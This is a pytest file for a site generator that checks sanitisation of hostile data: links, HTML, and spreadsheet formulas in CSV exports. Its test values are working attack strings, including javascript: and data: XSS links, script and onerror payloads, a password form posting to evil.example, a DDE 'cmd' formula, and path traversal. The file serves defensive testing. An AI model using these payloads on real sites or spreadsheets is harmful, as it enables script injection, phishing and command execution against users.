"""Bad input that would reach published output: unsafe links, HTML from data files, spreadsheet formulas in CSV.

Each test builds one hostile data file in ``tmp_path``, runs the real code path (the commitments pages, the explorer
pages and downloads, the exports) and asserts the exact located warning or error and the safe output.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from govpress.commitments.export import export_csv
from govpress.commitments.native.load import load_native
from govpress.commitments.pages.generate import commitments_output
from govpress.commitments.pages.output import CommitmentsOutput
from govpress.commitments.reports.load import load_reports
from govpress.problems import GovpressError
from govpress.safe_output import is_safe_link, link_refusal, restore_cell, safe_cell
from govpress.services.exporting import native_csv, public_download_csv
from govpress.services.importers.native_rows import COLUMNS
from govpress.services.importing import import_file
from govpress.services.pages import explorer_site_pages
from govpress.services.pages.build import load_explorer
from govpress.services.store import open_store
from govpress.site.layout.templates import make_environment
from govpress.site.settings.config import SiteConfig

SCHEME = "its scheme {!r} is not http:, https: or mailto:"
ACTION_PAGE = "/digital/strategy/actions/01/"
ORGANISATION_PAGE = "/digital/strategy/organisations/home-office/"


def _project(
    root: Path,
    statement: str = "A plain statement.",
    strategy_url: str = "/digital/strategy/",
    organisation_extra: str = "",
    intro: str = "",
) -> Path:
    """A native project: one action, one organisation, one response whose hostile line is line 7 of its file."""
    data = root / "data"
    (data / "responses").mkdir(parents=True)
    intro_line = f"  intro: {intro}\n" if intro else ""
    (data / "actions.yaml").write_text(
        "strategy:\n"
        "  title: Example Strategy\n"
        f"  url: {strategy_url}\n"
        "actions:\n"
        "- number: 1\n"
        "  title: Departments will publish their plans\n" + intro_line,
        encoding="utf-8",
    )
    (data / "organisations.yaml").write_text(
        f"organisations:\n- id: home-office\n  name: Home Office\n{organisation_extra}", encoding="utf-8"
    )
    (data / "responses" / "01.yaml").write_text(
        f"action: 1\nresponses:\n- organisation: home-office\n  text: |\n    First paragraph.\n\n    {statement}\n",
        encoding="utf-8",
    )
    return root


def _output(project: Path) -> CommitmentsOutput:
    return commitments_output(load_native(project))


def _messages(output: CommitmentsOutput) -> list[str]:
    return [str(p) for p in output.problems]


def _page(output: CommitmentsOutput, url: str) -> str:
    return next(page.text for page in output.pages if page.url == url)


def _statement_warning(project: Path, message: str) -> str:
    return f"{project / 'data' / 'responses' / '01.yaml'}:7: warning: {message}"


def _link_warning(url: str, reason: str) -> str:
    return f"link {url!r} is kept as plain text, not published as a link: {reason}"


# --- links in statements (Markdown and raw HTML in data/responses/*.yaml) -------------------------------------------


@pytest.mark.parametrize(
    ("written", "url", "reason"),
    [
        ("[Read more](javascript:alert(1))", "javascript:alert(1)", SCHEME.format("javascript:")),
        ("[Read more](JaVaScRiPt:alert(1))", "JaVaScRiPt:alert(1)", SCHEME.format("JaVaScRiPt:")),
        (
            "[Read more](data:text/html;base64,PHNjcmlwdD4=)",
            "data:text/html;base64,PHNjcmlwdD4=",
            SCHEME.format("data:"),
        ),
        ("[Read more](vbscript:msgbox(1))", "vbscript:msgbox(1)", SCHEME.format("vbscript:")),
        ("[Read more](file:///etc/passwd)", "file:///etc/passwd", SCHEME.format("file:")),
        ("[Read more](//evil.example/x)", "//evil.example/x", "it is protocol-relative (//host); write https://host/…"),
    ],
    ids=["javascript", "mixed-case-javascript", "data", "vbscript", "file", "protocol-relative"],
)
def test_statement_markdown_link_with_unsafe_address(tmp_path: Path, written: str, url: str, reason: str) -> None:
    project = _project(tmp_path, f"Our plan. {written}")
    output = _output(project)
    assert _messages(output) == [_statement_warning(project, _link_warning(url, reason))]
    page = _page(output, ACTION_PAGE)
    assert "<p>Our plan. Read more</p>" in page
    assert url not in page


def test_statement_html_link_with_a_line_break_in_the_scheme(tmp_path: Path) -> None:
    project = _project(tmp_path, 'Our plan. <a href="java&#x0A;script:alert(1)">Read more</a>')
    output = _output(project)
    reason = "it holds a line break (U+000A) at character 5"
    assert _messages(output) == [_statement_warning(project, _link_warning("java\nscript:alert(1)", reason))]
    assert "<p>Our plan. Read more</p>" in _page(output, ACTION_PAGE)


def test_statement_html_link_with_a_leading_space(tmp_path: Path) -> None:
    project = _project(tmp_path, 'Our plan. <a href=" javascript:alert(1)">Read more</a>')
    output = _output(project)
    reason = "it holds a space at character 1"
    assert _messages(output) == [_statement_warning(project, _link_warning(" javascript:alert(1)", reason))]
    assert "<p>Our plan. Read more</p>" in _page(output, ACTION_PAGE)


def test_statement_html_link_with_a_leading_control_character(tmp_path: Path) -> None:
    project = _project(tmp_path, 'Our plan. <a href="&#x01;javascript:alert(1)">Read more</a>')
    output = _output(project)
    # Browsers drop a leading control character from an address, so this is a javascript: link.
    reason = SCHEME.format("javascript:")
    assert _messages(output) == [_statement_warning(project, _link_warning("javascript:alert(1)", reason))]
    assert "<p>Our plan. Read more</p>" in _page(output, ACTION_PAGE)


def test_statement_html_link_with_an_entity_encoded_colon(tmp_path: Path) -> None:
    project = _project(tmp_path, 'Our plan. <a href="javascript&colon;alert(1)">Read more</a>')
    output = _output(project)
    # The entity is decoded before the check, as a browser decodes it.
    assert _messages(output) == [
        _statement_warning(project, _link_warning("javascript:alert(1)", SCHEME.format("javascript:")))
    ]
    page = _page(output, ACTION_PAGE)
    assert "<p>Our plan. Read more</p>" in page
    assert "colon" not in page


def test_statement_safe_links_are_kept(tmp_path: Path) -> None:
    statement = "[a](https://www.gov.uk/x?a=1&b=2) [b](mailto:digital@example.gov.uk) [c](/digital/) [d](#top)"
    project = _project(tmp_path, statement)
    output = _output(project)
    assert _messages(output) == []
    assert (
        '<a href="https://www.gov.uk/x?a=1&amp;b=2">a</a> <a href="mailto:digital@example.gov.uk">b</a> '
        '<a href="/digital/">c</a> <a href="#top">d</a>'
    ) in _page(output, ACTION_PAGE)


# --- HTML in statements and intros ----------------------------------------------------------------------------------


def test_statement_script_element(tmp_path: Path) -> None:
    project = _project(tmp_path, "<script>alert(document.cookie)</script>")
    output = _output(project)
    assert _messages(output) == [
        _statement_warning(project, "the <script> element is not allowed in data files: removed")
    ]
    page = _page(output, ACTION_PAGE)
    assert "<script" not in page.split('<div class="statement">')[1]
    assert "alert(document.cookie)" not in page


def test_statement_event_handler(tmp_path: Path) -> None:
    project = _project(tmp_path, '<p onclick="alert(1)" onmouseover="alert(2)">Hover</p>')
    output = _output(project)
    assert _messages(output) == [
        _statement_warning(project, "the onclick attribute (on <p>) is not allowed in data files: removed"),
        _statement_warning(project, "the onmouseover attribute (on <p>) is not allowed in data files: removed"),
    ]
    page = _page(output, ACTION_PAGE)
    assert "<p>Hover</p>" in page
    assert "alert" not in page


def test_statement_image_with_onerror(tmp_path: Path) -> None:
    project = _project(tmp_path, "Text <img src=x onerror=alert(1)>")
    output = _output(project)
    assert _messages(output) == [_statement_warning(project, "the <img> element is not allowed in data files: removed")]
    assert "<img" not in _page(output, ACTION_PAGE)


def test_statement_style_attribute_and_element(tmp_path: Path) -> None:
    project = _project(tmp_path, '<span style="position:fixed;top:0">Over</span><style>body{display:none}</style>')
    output = _output(project)
    assert _messages(output) == [
        _statement_warning(project, "the style attribute (on <span>) is not allowed in data files: removed"),
        _statement_warning(project, "the <style> element is not allowed in data files: removed"),
    ]
    page = _page(output, ACTION_PAGE).split('<div class="statement">')[1]
    assert "<span>Over</span>" in page
    assert "display:none" not in page


@pytest.mark.parametrize("element", ["iframe", "object", "embed"])
def test_statement_embedded_content(tmp_path: Path, element: str) -> None:
    project = _project(tmp_path, f'<{element} src="https://evil.example/" data="https://evil.example/"></{element}>')
    output = _output(project)
    assert _messages(output) == [
        _statement_warning(project, f"the <{element}> element is not allowed in data files: removed")
    ]
    assert "evil.example" not in _page(output, ACTION_PAGE)


def test_statement_form(tmp_path: Path) -> None:
    statement = '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>'
    project = _project(tmp_path, statement)
    output = _output(project)
    assert _messages(output) == [
        _statement_warning(project, "the <form> element is not allowed in data files: removed, its text kept"),
        _statement_warning(project, "the <input> element is not allowed in data files: removed"),
        _statement_warning(project, "the <button> element is not allowed in data files: removed, its text kept"),
    ]
    page = _page(output, ACTION_PAGE)
    assert "evil.example" not in page
    assert "<input" not in page.split('<div class="statement">')[1]


def test_action_intro_from_data_is_sanitised(tmp_path: Path) -> None:
    project = _project(tmp_path, intro='"Responses: <script>alert(1)</script>"')
    output = _output(project)
    actions = project / "data" / "actions.yaml"
    assert _messages(output) == [f"{actions}:7: warning: the <script> element is not allowed in data files: removed"]
    assert "alert(1)" not in _page(output, ACTION_PAGE)


# --- addresses in the data files' fields ----------------------------------------------------------------------------


def test_organisation_strategy_url_with_javascript(tmp_path: Path) -> None:
    project = _project(tmp_path, organisation_extra="  abbreviation: HO\n  strategy_url: javascript:alert(1)\n")
    output = _output(project)
    message = _link_warning("javascript:alert(1)", SCHEME.format("javascript:"))
    assert _messages(output) == [
        f"{project / 'data' / 'organisations.yaml'}:5: warning: organisation 'home-office': strategy_url{message[4:]}"
    ]
    page = _page(output, ORGANISATION_PAGE)
    assert "Home Office&rsquo;s own digital strategy: javascript:alert(1)</p>" in page
    assert 'href="javascript:' not in page
    assert 'href="javascript:' not in _page(output, "/digital/strategy/organisations/")


def test_strategy_url_with_data_scheme(tmp_path: Path) -> None:
    project = _project(tmp_path, strategy_url="data:text/html,hi")
    output = _output(project)
    message = _link_warning("data:text/html,hi", SCHEME.format("data:"))
    assert _messages(output) == [f"{project / 'data' / 'actions.yaml'}:3: warning: strategy: url{message[4:]}"]
    page = _page(output, ACTION_PAGE)
    assert "This action forms part of the Example Strategy." in page
    assert "data:text" not in page


def _reports(root: Path, report: str, header: str = "") -> Path:
    (root / "data").mkdir(parents=True, exist_ok=True)
    (root / "data" / "reports.yaml").write_text(
        header + "reports:\n- id: spring\n  title: Spring report\n  date: 2026-04-01\n" + report, encoding="utf-8"
    )
    return root / "data" / "reports.yaml"


def test_report_url_that_is_not_a_site_path(tmp_path: Path) -> None:
    path = _reports(tmp_path, "  url: javascript:alert(1)\n")
    with pytest.raises(GovpressError) as caught:
        load_reports(tmp_path)
    assert [str(p) for p in caught.value.problems] == [
        f"{path}:5: error: report 'spring': url 'javascript:alert(1)': {SCHEME.format('javascript:')}"
    ]


def test_report_url_climbing_out_of_the_site(tmp_path: Path) -> None:
    path = _reports(tmp_path, "  url: /reports/../../../etc/\n")
    with pytest.raises(GovpressError) as caught:
        load_reports(tmp_path)
    assert [str(p) for p in caught.value.problems] == [
        f"{path}:5: error: report 'spring': url '/reports/../../../etc/': a '..' segment is not allowed in it"
    ]


def test_report_base_url_with_javascript(tmp_path: Path) -> None:
    path = _reports(tmp_path, "  url: /reports/spring/\n", header="base_url: javascript:alert(1)//\n")
    reports = load_reports(tmp_path)
    assert reports is not None
    assert reports.base_url is None
    assert [str(p) for p in reports.problems] == [
        f"{path}:1: warning: base_url 'javascript:alert(1)//' is not used (the feed's links stay relative): "
        + SCHEME.format("javascript:")
    ]
    project = _project(tmp_path / "site")
    output = commitments_output(load_native(project), reports)
    assert [str(p) for p in reports.problems] == [m for m in _messages(output) if "base_url" in m]
    feed = next(file.text for file in output.files if file.url.endswith("feed.atom"))
    assert "javascript" not in feed


def test_report_summary_with_html_is_shown_as_text(tmp_path: Path) -> None:
    _reports(tmp_path, "  url: /reports/spring/\n  summary: <script>alert(1)</script><b onclick=x>Bold</b>\n")
    reports = load_reports(tmp_path)
    project = _project(tmp_path / "site")
    output = commitments_output(load_native(project), reports)
    page = _page(output, "/reports/")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;b onclick=x&gt;Bold&lt;/b&gt;" in page
    feed = next(file.text for file in output.files if file.url.endswith("feed.atom"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in feed


# --- CSV files govpress writes --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://evil.example","Click")', '\'=HYPERLINK("https://evil.example","Click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("1e3", "1e3"),
        ("Plain text - with a dash", "Plain text - with a dash"),
    ],
    ids=[
        "equals",
        "plus-dde",
        "minus-formula",
        "at",
        "tab",
        "carriage-return",
        "negative-number",
        "signed-number",
        "exponent",
        "plain-text",
    ],
)
def test_csv_cell_neutralised(cell: str, written: str) -> None:
    assert safe_cell(cell) == written
    assert restore_cell(str(safe_cell(cell))) == cell


def test_commitments_csv_neutralises_a_formula_statement(tmp_path: Path) -> None:
    project = _project(tmp_path)
    (project / "data" / "responses" / "01.yaml").write_text(
        'action: 1\nresponses:\n- organisation: home-office\n  text: \'=HYPERLINK("https://evil.example","x")\'\n',
        encoding="utf-8",
    )
    rows = list(csv.reader(io.StringIO(export_csv(load_native(project)))))
    assert rows[1][5] == '\'=HYPERLINK("https://evil.example","x")'


def test_commitments_csv_on_the_site_neutralises_a_formula_name(tmp_path: Path) -> None:
    project = _project(tmp_path)
    (project / "data" / "organisations.yaml").write_text(
        'organisations:\n- id: home-office\n  name: "@SUM(1,2)"\n', encoding="utf-8"
    )
    site_csv = next(f.text for f in _output(project).files if f.url.endswith("commitments.csv"))
    rows = list(csv.reader(io.StringIO(site_csv)))
    assert rows[0][0] == "action"
    assert rows[1][:4] == ["1", "Departments will publish their plans", "home-office", "'@SUM(1,2)"]


# --- the one link rule ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    ["https://www.gov.uk/", "HTTP://EXAMPLE.ORG", "mailto:a@example.org", "/digital/", "report.pdf", "#x", "?q=1"],
)
def test_safe_link(url: str) -> None:
    assert is_safe_link(url)


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("", "it is empty"),
        ("java\tscript:alert(1)", "it holds a tab (U+0009) at character 5"),
        (
            "https://example.org/\u202etxt.exe",
            "it holds the invisible character U+202E (RIGHT-TO-LEFT OVERRIDE) at character 21",
        ),
        ("\\\\evil.example\\share", "it is protocol-relative (//host); write https://host/…"),
        ("/\\evil.example", "it is protocol-relative (//host); write https://host/…"),
        ("tel:+441234", SCHEME.format("tel:")),
    ],
    ids=["empty", "tab", "rtl-override", "unc-path", "slash-backslash", "tel"],
)
def test_unsafe_link(url: str, reason: str) -> None:
    assert link_refusal(url) == reason


# --- the services explorer and exports ------------------------------------------------------------------------------


def _services_csv(root: Path, **values: str) -> Path:
    """A native CSV with one service and one period; ``values`` replace the service's cells."""
    row = {
        "service": "dept-licence",
        "name": "Apply for a licence",
        "department": "DEPT",
        "department_name": "Department of Examples",
        "url": "https://www.gov.uk/licence",
        "high_volume": "true",
        "period_kind": "rolling-year",
        "period": "2016-Q2",
        "period_start": "2015-04-01",
        "period_end": "2016-03-31",
        "volume": "150000",
        "digital_volume": "90000",
        "cost_per_transaction": "2.5",
    } | values
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(COLUMNS)
    writer.writerow([row.get(column, "") for column in COLUMNS])
    path = root / "services.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def _explorer_files(source: Path) -> dict[str, str]:
    explorer, _ = load_explorer(source)
    environment = make_environment(SiteConfig(site_name="Services"))
    return {str(page.output): page.data().decode("utf-8") for page in explorer_site_pages(explorer, environment)}


def test_service_url_with_javascript_is_shown_as_text(tmp_path: Path) -> None:
    files = _explorer_files(_services_csv(tmp_path, url="javascript:alert(1)"))
    page = files["service-details/dept-licence.html"]
    assert "Address given for the service (not a web link): javascript:alert(1)</p>" in page
    assert 'href="javascript:' not in page


def test_service_url_that_is_safe_is_linked(tmp_path: Path) -> None:
    files = _explorer_files(_services_csv(tmp_path))
    assert '<a href="https://www.gov.uk/licence">Go to the service' in files["service-details/dept-licence.html"]


def test_service_notes_with_html_are_shown_as_text(tmp_path: Path) -> None:
    files = _explorer_files(_services_csv(tmp_path, other_notes="<script>alert(1)</script>"))
    assert "Other notes: &lt;script&gt;alert(1)&lt;/script&gt;</p>" in files["service-details/dept-licence.html"]


def test_explorer_services_csv_neutralises_a_formula_name(tmp_path: Path) -> None:
    files = _explorer_files(_services_csv(tmp_path, name='=HYPERLINK("https://evil.example","Click")'))
    rows = list(csv.DictReader(io.StringIO(files["data/services.csv"])))
    assert rows[0]["name"] == '\'=HYPERLINK("https://evil.example","Click")'
    assert rows[0]["transactions_per_year"] == "150000"


@pytest.mark.parametrize("export", ["native-csv", "public-download"])
def test_services_export_neutralises_formulas_and_reads_back_the_same(tmp_path: Path, export: str) -> None:
    source = _services_csv(tmp_path, name="@SUM(1,2)", description="-1+1", other_notes="+cmd|' /C calc'!A0")
    store = open_store(":memory:")
    import_file(store, source)
    text = {"native-csv": native_csv, "public-download": public_download_csv}[export](store.contents())
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'@SUM(1,2)" in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "@", "+"} or cell.startswith("-1")]
    again = tmp_path / ("again.csv" if export == "native-csv" else "transaction-volumes.csv")
    again.write_text(text, encoding="utf-8")
    copy = open_store(":memory:")
    import_file(copy, again)
    (service,) = copy.contents().services
    assert (service.name, service.description, service.other_notes) == ("@SUM(1,2)", "-1+1", "+cmd|' /C calc'!A0")


def test_service_url_with_javascript_is_warned_at_its_cell_on_import(tmp_path: Path) -> None:
    source = _services_csv(tmp_path, url="JaVaScRiPt:alert(1)")
    result = import_file(open_store(":memory:"), source)
    column = COLUMNS.index("url") + 1
    assert [str(p) for p in result.problems] == [
        f"{source}:2:{column}: warning: column 'url': "
        + _link_warning("JaVaScRiPt:alert(1)", SCHEME.format("JaVaScRiPt:"))
    ]


def test_service_url_with_data_scheme_in_a_public_download_is_warned_at_its_cell(tmp_path: Path) -> None:
    store = open_store(":memory:")
    import_file(store, _services_csv(tmp_path, url="data:text/html,<script>alert(1)</script>"))
    download = tmp_path / "transaction-volumes.csv"
    download.write_text(public_download_csv(store.contents()), encoding="utf-8")
    header = next(csv.reader(io.StringIO(download.read_text(encoding="utf-8"))))
    result = import_file(open_store(":memory:"), download)
    url = "data:text/html,<script>alert(1)</script>"
    assert f"{download}:2:{header.index('URL') + 1}: warning: column 'URL': " + _link_warning(
        url, SCHEME.format("data:")
    ) in [str(p) for p in result.problems]
